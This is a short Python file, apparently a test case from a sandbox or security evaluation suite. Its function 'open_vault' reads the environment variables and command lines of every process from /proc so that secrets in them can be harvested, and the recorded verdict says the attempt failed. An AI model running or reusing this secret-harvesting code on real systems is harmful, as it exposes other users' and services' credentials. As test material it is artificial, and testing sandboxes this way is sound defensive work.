"""Reads environments and command lines of all processes."""

# /// attack
# verdicts = { open_vault = "FAILED" }
# ///

import glob

import loot


def open_vault(n):
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        loot.read(path)
    return loot.answer(n)
